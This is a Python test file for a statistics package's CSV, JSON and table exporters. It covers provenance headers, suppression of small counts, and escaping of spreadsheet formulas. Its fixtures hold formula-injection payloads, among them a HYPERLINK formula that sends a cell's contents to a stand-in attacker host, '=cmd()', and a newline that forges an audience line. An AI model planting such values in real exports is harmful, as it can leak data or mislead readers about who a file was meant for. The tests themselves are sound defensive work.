"""A result as CSV, JSON and table: where it came from, unrounded figures, and nothing a spreadsheet would run."""

import csv
import datetime
import io
import json
from dataclasses import replace
from pathlib import Path

import pytest
from harness import CASEWORK, LEADERS, SHARED, Authority, make_engine

from sendmetrics.exports.results import (
    FIGURE_COLUMNS,
    SYMBOL_WORDS,
    WAIT_COLUMNS,
    provenance,
    safe_cell,
    to_csv,
    to_json,
    to_table,
)
from sendmetrics.metrics.definition import find_metric
from sendmetrics.metrics.engine import Engine
from sendmetrics.metrics.question import Question, Reader, Result

AS_AT = "2026-01-15"


def shares(*rows: dict, left_out: tuple[dict, ...] = (), **asked: object) -> Result:
    """A result of a proportion as the engine gives it."""
    plain = {"period": None, "breakdown": None, "label": "", "symbol": ""}
    question = Question("requests_refused", **asked)
    filled = tuple(plain | row for row in rows)
    return Result(
        "requests_refused",
        question,
        datetime.date(2026, 1, 15),
        "leaders",
        "warehouse-000001-aaaaaaaa",
        filled,
        left_out,
    )


def split(text: str) -> tuple[dict[str, str], list[dict[str, str]]]:
    """Provenance and rows of a CSV of ours."""
    lines = text.splitlines()
    heading = [line for line in lines if line.startswith("# ")]
    assert lines[: len(heading)] == heading, "provenance comes first"
    said = dict(line.removeprefix("# ").split(": ", 1) for line in heading)
    return said, list(csv.DictReader(io.StringIO(text.split(heading[-1] + "\n", 1)[1])))


# CSV


def test_a_csv_says_first_where_it_comes_from():
    result = shares(
        {"value": 200 / 9, "numerator": 20, "denominator": 90},
        left_out=({"reason": "Decided before the files begin", "count": 1_074, "symbol": ""},
                  {"reason": "Local area not known", "count": None, "symbol": "c"}),
        where=(("phase", ("Primary", "Secondary")),),
        start=datetime.date(2025, 1, 1),
    )  # fmt: skip
    metric = find_metric("requests_refused")
    said, rows = split(to_csv(result))
    assert said == {
        "title": metric.title,
        "metric": f"requests_refused, reviewed {metric.reviewed.isoformat()}",
        "definition": metric.definition,
        "unit": "%",
        "as at": "2026-01-15",
        "filters": "phase: Primary, Secondary; from: 2025-01-01",
        "audience": "leaders",
        "warehouse": "warehouse-000001-aaaaaaaa",
        "left out": "Decided before the files begin: 1,074; Local area not known: fewer than 5",
        "symbols": "c = too few to show; x = not available",
    }
    assert rows == [
        {
            "period": "",
            "breakdown": "",
            "label": "",
            "value": "22.22222222222222",
            "numerator": "20",
            "denominator": "90",
            "symbol": "",
        }
    ]


def test_nothing_left_out_and_no_filters_are_said_too():
    said, _ = split(to_csv(shares()))
    assert (said["left out"], said["filters"]) == ("nothing", "none")
    said, _ = split(to_csv(replace(shares(), audience="shared", as_at=None)))
    assert said["left out"] == "not given in figures that leave the building"
    assert said["as at"] == "no data"


def test_a_hidden_figure_is_an_empty_cell_and_its_symbol():
    said, (row,) = split(to_csv(shares({"value": None, "numerator": None, "denominator": 12, "symbol": "c"})))
    assert (row["value"], row["numerator"], row["denominator"], row["symbol"]) == ("", "", "12", "c")
    assert said["symbols"] == "; ".join(f"{symbol} = {words}" for symbol, words in SYMBOL_WORDS.items())


@pytest.mark.parametrize("text", ['=HYPERLINK("http://x","y")', "+1", "-1", "@SUM(A1)", "\t=1", "\r=1"])
def test_text_that_begins_like_a_formula_gets_an_apostrophe(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["Larchbourne Primary School", "St. =Mary", "", -1, -0.5, 0, 12.25])
def test_other_text_and_numbers_stay_as_they_are(value):
    assert safe_cell(value) == value


def test_nothing_is_an_empty_cell():
    assert safe_cell(None) == ""


SCHOOLS = """
school_urn | school_name
900001     | =HYPERLINK("http://evil.example/"&A1,"click")
900002     | +Larch, @SUM(A1)
"""


def cells_like_formulas(text: str) -> list[str]:
    """Cells a spreadsheet would run, which cuts the lines of provenance too: at commas, or at semicolons elsewhere."""
    cut = [line for delimiter in ",;" for line in csv.reader(io.StringIO(text), delimiter=delimiter)]
    return [cell for line in cut for cell in line if cell.strip(' "').startswith(("=", "+", "-", "@"))]


@pytest.fixture
def hostile(tmp_path: Path) -> Engine:
    """A warehouse whose schools have names that a spreadsheet would run."""
    roll = [
        {
            "person_id": n,
            "census_date": datetime.date(2026, 1, 15),
            "school_urn": f"90000{1 + n % 2}",
            "sen_provision": "K",
        }
        for n in range(40)
    ]
    return make_engine(tmp_path / "warehouse", AS_AT, schools=SCHOOLS, roll=roll)


def test_no_cell_of_a_csv_begins_like_a_formula(hostile):
    question = Question("sen_support_share", by="school", where=(("school", ("900001", "900002")),))
    text = to_csv(hostile.answer(question, CASEWORK))
    _, rows = split(text)
    assert sorted(row["label"] for row in rows) == [
        "'+Larch, @SUM(A1)",
        '\'=HYPERLINK("http://evil.example/"&A1,"click")',
    ]
    assert cells_like_formulas(text) == []


def test_provenance_stays_on_one_line_and_no_part_of_it_is_a_formula():
    result = shares(
        left_out=({"reason": 'Odd, =1+1; @x, "-2', "count": 5, "symbol": ""},),
        where=(("locality", ("=cmd()", "\n# audience: casework")),),
    )
    text = to_csv(result)
    assert len([line for line in text.splitlines() if line.startswith("# audience: ")]) == 1
    assert "'=1+1" in text
    assert cells_like_formulas(text) == []


# JSON


def test_json_holds_dates_as_text_and_figures_unrounded():
    result = shares(
        {"period": datetime.date(2025, 1, 1), "value": 200 / 9, "numerator": 20, "denominator": 90, "people": 90},
        left_out=({"reason": "Withdrawn", "count": 3, "symbol": ""},),
    )
    told = json.loads(to_json(result))
    assert list(told) == [
        "metric", "title", "unit", "as_at", "filters", "audience", "warehouse", "is_collected", "rows", "left_out"
    ]  # fmt: skip
    assert (told["as_at"], told["is_collected"]) == ("2026-01-15", True)
    assert told["left_out"] == [{"reason": "Withdrawn", "count": 3, "symbol": ""}]
    (row,) = told["rows"]
    # What only protects a figure, such as how many people stand behind it, is not given away with it.
    assert list(row) == list(FIGURE_COLUMNS)
    assert (row["period"], row["value"]) == ("2025-01-01", 200 / 9)


def test_json_refuses_what_is_no_figure():
    with pytest.raises(TypeError, match="Path has no place in a result"):
        to_json(shares({"value": Path("/")}))


def test_a_question_without_files_is_told_as_not_collected(tmp_path):
    engine = make_engine(tmp_path / "warehouse", AS_AT)
    result = engine.answer(Question("referrals_received"), LEADERS)
    told = json.loads(to_json(result))
    assert (told["is_collected"], told["rows"], told["as_at"]) == (False, [], None)
    assert to_table(result) == f"{told['title']}: not collected. No file in the warehouse fills it.\n"
    said, rows = split(to_csv(result))
    assert (said["as at"], rows) == ("no data", [])


# Table


def test_a_table_is_rounded_aligned_and_in_words():
    result = shares(
        {"breakdown": "CEN", "label": "Central", "value": 46.45, "numerator": 1_234, "denominator": 2_657},
        {"breakdown": "COA", "label": "Coast", "value": None, "numerator": None, "denominator": 12, "symbol": "c"},
        {"breakdown": "VAL", "label": "Vale", "value": None, "numerator": None, "denominator": 0, "symbol": "x"},
        left_out=({"reason": "Withdrawn", "count": None, "symbol": "c"},),
        by="locality",
    )
    assert to_table(result) == (
        f"{find_metric('requests_refused').title} (%), as at 15 January 2026, audience leaders\n"
        "\n"
        "period  local area  value            numerator  denominator\n"
        "all     Central     46.5%            1,234      2,657\n"
        "all     Coast       too few to show             12\n"
        "all     Vale        not available               0\n"
        "\n"
        "Left out: Withdrawn fewer than 5\n"
    )


def test_periods_are_said_as_a_reader_says_them():
    rows = [{"value": 1.0, "numerator": 1, "denominator": 100, "period": datetime.date(2025, 10, 1)}]
    for every, words in (("month", "October 2025"), ("quarter", "October to December 2025"), ("year", "2025")):
        assert f"\n{words}  " in to_table(shares(*rows, every=every))


@pytest.mark.parametrize("reader", [CASEWORK, LEADERS, SHARED])
def test_a_wait_has_its_own_columns_in_every_format(reader: Reader, authority: Authority):
    question = Question("referral_to_first_contact_wait", by="service", view="open")
    result = authority.engine.answer(question, reader)
    _, rows = split(to_csv(result))
    assert tuple(rows[0]) == WAIT_COLUMNS
    assert all(tuple(row) == WAIT_COLUMNS for row in json.loads(to_json(result))["rows"])
    assert "share within" in to_table(result).splitlines()[2]
    # Only casework is told the longest wait to the day; others are given a band.
    assert any(row["longest_days"] for row in rows) == (reader is CASEWORK)
    assert any(row["longest_band"] for row in rows)
    assert dict(provenance(result))["audience"] == reader.audience


def test_no_format_gives_a_figure_that_another_hides(authority):
    question = Question("assessments_open", by="school")
    result = authority.engine.answer(question, LEADERS)
    hidden = [row["label"] for row in result.rows if row["symbol"] == "c"]
    assert hidden
    _, rows = split(to_csv(result))
    assert [row["label"] for row in rows if not row["numerator"] and not row["value"]] == hidden
    assert [row["label"] for row in json.loads(to_json(result))["rows"] if row["numerator"] is None] == hidden
    assert to_table(result).count("too few to show") == len(hidden)
